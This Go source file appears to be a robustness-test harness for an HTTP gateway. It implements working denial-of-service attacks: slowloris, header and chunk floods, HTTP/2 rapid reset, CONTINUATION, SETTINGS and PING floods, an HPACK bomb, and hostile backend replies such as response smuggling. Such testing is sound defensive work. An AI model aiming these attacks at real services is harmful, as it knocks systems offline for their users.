//go:build linux

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is a way of doing harm.
type attack struct {
	name string
	of   string // what is counted
	do   func(ctx context.Context, v *victim, conns int, did *atomic.Int64)
}

var attacks = []attack{
	{"nothing", "-", func(ctx context.Context, _ *victim, _ int, _ *atomic.Int64) { <-ctx.Done() }},
	{"connections that ask nothing", "connections", each(func(ctx context.Context, c net.Conn, did *atomic.Int64) {
		did.Add(1)
		_, _ = c.Read(make([]byte, 1)) // until the gateway has had enough, or the time is over
	})},
	{"slow heads (slowloris)", "bytes", slowly("GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")},
	{"slow heads over TLS", "bytes", overTLS(slowly("GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "))},
	{"slow bodies", "bytes", slowly("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n")},
	{"slow chunked bodies", "bytes", slowly("POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffff\r\n")},
	{"answers not read", "connections", each(func(ctx context.Context, c net.Conn, did *atomic.Int64) {
		if _, err := io.WriteString(c, "GET /large HTTP/1.1\r\nHost: x\r\n\r\n"); err == nil {
			did.Add(1)
			<-ctx.Done()
		}
	})},
	{"handshakes not ended", "connections", func(ctx context.Context, v *victim, conns int, did *atomic.Int64) {
		all(conns, func() {
			for ctx.Err() == nil {
				c, err := net.Dial("tcp", v.TLS)
				if err != nil {
					return
				}
				did.Add(1)
				until(ctx, c, func() { _, _ = c.Read(make([]byte, 1)) })
			}
		})
	}},
	{"1 MB heads", "bytes", flood("GET / HTTP/1.1\r\nHost: x\r\n", strings.Repeat("X-More: "+strings.Repeat("m", 1000)+"\r\n", 10), 1<<20)},
	{"a line of 1 MB", "bytes", flood("GET / HTTP/1.1\r\nHost: x\r\nX-Long: ", strings.Repeat("l", 10_000), 1<<20)},
	{"chunk bombs", "bytes", flood("POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", strings.Repeat("1;"+strings.Repeat("x", 200)+"\r\na\r\n", 50), 8<<20)},
	{"trailers without end", "bytes", flood("POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", strings.Repeat("X-T: "+strings.Repeat("t", 1000)+"\r\n", 10), 1<<20)},
	{"pipelined, answers not read", "bytes", flood("", strings.Repeat("GET / HTTP/1.1\r\nHost: x\r\n\r\n", 300), 64<<20)},
	{"asks without end to close", "connections", each(func(ctx context.Context, c net.Conn, did *atomic.Int64) {
		for _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"); err == nil; _, err = io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\n\r\n") {
			did.Add(1)
		}
	})},
	{"half-closed clients", "connections", each(func(_ context.Context, c net.Conn, did *atomic.Int64) {
		if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\n\r\n"); err == nil {
			did.Add(1)
			_ = c.(interface{ CloseWrite() error }).CloseWrite()
			_, _ = io.Copy(io.Discard, c)
		}
	})},
	{"resets after asking", "connections", each(func(_ context.Context, c net.Conn, did *atomic.Int64) {
		if _, err := io.WriteString(c, "GET /large HTTP/1.1\r\nHost: x\r\n\r\n"); err == nil {
			did.Add(1)
			_ = c.(*net.TCPConn).SetLinger(0)
		}
	})},
	{"h2 rapid reset", "streams", frames(func(f *framer) error {
		f.id += 2
		return f.first(f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.id - 2, BlockFragment: f.block, EndStream: true, EndHeaders: true}),
			f.WriteRSTStream(f.id-2, http2.ErrCodeCancel))
	})},
	{"h2 made to reset", "streams", frames(func(f *framer) error { // CVE-2025-8671: a window update of 0 is the client's fault
		f.id += 2
		return f.first(f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.id - 2, BlockFragment: f.block, EndStream: true, EndHeaders: true}),
			f.WriteRawFrame(http2.FrameWindowUpdate, 0, f.id-2, make([]byte, 4)))
	})},
	{"h2 CONTINUATION flood", "frames", frames(func(f *framer) error {
		if f.id == 1 {
			f.id += 2
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block, EndStream: true})
		}
		return f.WriteContinuation(1, false, bytes.Repeat([]byte{0x40, 1, 'x', 1, 'y'}, 200))
	})},
	{"h2 SETTINGS flood", "frames", frames(func(f *framer) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1000})
	})},
	{"h2 PING flood", "frames", frames(func(f *framer) error { return f.WritePing(false, [8]byte{1}) })},
	{"h2 empty DATA", "frames", frames(func(f *framer) error {
		if f.id == 1 {
			f.id += 2
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block, EndHeaders: true})
		}
		return f.WriteData(1, false, nil)
	})},
	{"h2 answers not read", "streams", frames(func(f *framer) error {
		if f.id > 2*100 {
			<-f.ctx.Done()
			return io.EOF
		}
		f.id += 2
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.id - 2, BlockFragment: f.large, EndStream: true, EndHeaders: true})
	})},
	{"h2 heads that grow (HPACK bomb)", "frames", frames(func(f *framer) error {
		f.id += 2
		// One long field is put into the table, and then named 4,000 times by one byte each.
		if f.id == 3 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.bomb, EndStream: true, EndHeaders: true})
		}
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.id - 2, BlockFragment: append(bytes.Clone(f.block), bytes.Repeat([]byte{0x80 | 62}, 4000)...), EndStream: true, EndHeaders: true})
	})},
	{"backend: informs without end", "requests", ill(func(c net.Conn) {
		pour(c, "", "HTTP/1.1 103 Early Hints\r\nLink: "+strings.Repeat("x", 4000)+"\r\n\r\n")
	})},
	{"backend: head without end", "requests", ill(func(c net.Conn) { pour(c, "HTTP/1.1 200 OK\r\n", "X-More: "+strings.Repeat("m", 1000)+"\r\n") })},
	{"backend: chunk bombs", "requests", ill(func(c net.Conn) {
		pour(c, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", "1;"+strings.Repeat("x", 200)+"\r\na\r\n")
	})},
	{"backend: more than it says", "requests", ill(func(c net.Conn) {
		pour(c, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi", "HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nstolen")
	})},
	{"backend: answers byte by byte", "requests", ill(func(c net.Conn) {
		_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 60000\r\n\r\n")
		for {
			if _, err := io.WriteString(c, "x"); err != nil {
				return
			}
			time.Sleep(10 * time.Millisecond)
		}
	})},
}

// all runs f so many times side by side, and waits for all.
func all(n int, f func()) {
	var running sync.WaitGroup
	for range n {
		running.Go(f)
	}
	running.Wait()
}

// until runs f, and closes the connection when it or the time is over.
func until(ctx context.Context, c net.Conn, f func()) {
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer c.Close()
	f()
}

// each has an attack made on each of many connections, again and again, as long as there is time.
func each(f func(ctx context.Context, c net.Conn, did *atomic.Int64)) func(context.Context, *victim, int, *atomic.Int64) {
	return func(ctx context.Context, v *victim, conns int, did *atomic.Int64) {
		all(conns, func() {
			for ctx.Err() == nil {
				c, err := v.dial()
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue
				}
				until(ctx, c, func() { f(ctx, c, did) })
			}
		})
	}
}

func (v *victim) dial() (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	if v.secure {
		return tls.DialWithDialer(&d, "tcp", v.TLS, v.trust)
	}
	return d.Dial("tcp", v.Plain)
}

// overTLS makes an attack over TLS.
func overTLS(f func(context.Context, *victim, int, *atomic.Int64)) func(context.Context, *victim, int, *atomic.Int64) {
	return func(ctx context.Context, v *victim, conns int, did *atomic.Int64) {
		v.secure = true
		f(ctx, v, conns, did)
	}
}

// slowly begins a request and goes on byte by byte.
func slowly(begin string) func(context.Context, *victim, int, *atomic.Int64) {
	return each(func(ctx context.Context, c net.Conn, did *atomic.Int64) {
		text := begin
		for ctx.Err() == nil {
			if _, err := io.WriteString(c, text); err != nil {
				return
			}
			did.Add(int64(len(text)))
			text = "s"
			time.Sleep(100 * time.Millisecond)
		}
	})
}

// flood begins a request and sends pieces of it as fast as they are taken, up to a size.
func flood(begin, piece string, size int) func(context.Context, *victim, int, *atomic.Int64) {
	return each(func(ctx context.Context, c net.Conn, did *atomic.Int64) {
		if _, err := io.WriteString(c, begin); err != nil {
			return
		}
		for sent := 0; sent < size; sent += len(piece) {
			if _, err := io.WriteString(c, piece); err != nil {
				return
			}
			did.Add(int64(len(piece)))
		}
		_, _ = io.Copy(io.Discard, c)
	})
}

// pour writes a beginning, and then the same again and again until nobody takes it.
func pour(c net.Conn, begin, piece string) {
	if _, err := io.WriteString(c, begin); err != nil {
		return
	}
	for {
		if _, err := io.WriteString(c, piece); err != nil {
			return
		}
	}
}

// ill has the ill backend do harm, and clients ask for it.
func ill(f func(net.Conn)) func(context.Context, *victim, int, *atomic.Int64) {
	return func(ctx context.Context, v *victim, conns int, did *atomic.Int64) {
		v.ill.Store(&f)
		each(func(_ context.Context, c net.Conn, did *atomic.Int64) {
			if _, err := io.WriteString(c, "GET /ill/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"); err == nil {
				did.Add(1)
				_, _ = io.Copy(io.Discard, c)
			}
		})(ctx, v, min(conns, 100), did)
	}
}

// framer sends frames of HTTP/2 on a connection.
type framer struct {
	*http2.Framer
	ctx                context.Context
	id                 uint32 // of the next stream
	block, large, bomb []byte // heads
}

func (f *framer) first(errs ...error) error {
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// frames sends what f does, again and again, on connections of HTTP/2 whose answers are thrown away.
func frames(f func(*framer) error) func(context.Context, *victim, int, *atomic.Int64) {
	return func(ctx context.Context, v *victim, conns int, did *atomic.Int64) {
		each(func(ctx context.Context, c net.Conn, did *atomic.Int64) {
			go func() { _, _ = io.Copy(io.Discard, c) }() // it ends with the connection
			if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
				return
			}
			fr := &framer{Framer: http2.NewFramer(c, nil), ctx: ctx, id: 1}
			fr.AllowIllegalWrites = true
			fr.block, fr.large = head("/"), head("/large")
			fr.bomb = head("/", hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)})
			if fr.WriteSettings() != nil {
				return
			}
			for ctx.Err() == nil && f(fr) == nil {
				did.Add(1)
			}
		})(ctx, v, min(conns, 100), did)
	}
}

// head returns the head of a GET, for a table that is empty.
func head(path string, more ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "x", Sensitive: true}, {Name: ":path", Value: path, Sensitive: true},
	}, more...) {
		if err := e.WriteField(field); err != nil {
			panic(fmt.Sprint("encoding a head: ", err)) // into memory it can't fail
		}
	}
	return b.Bytes()
}
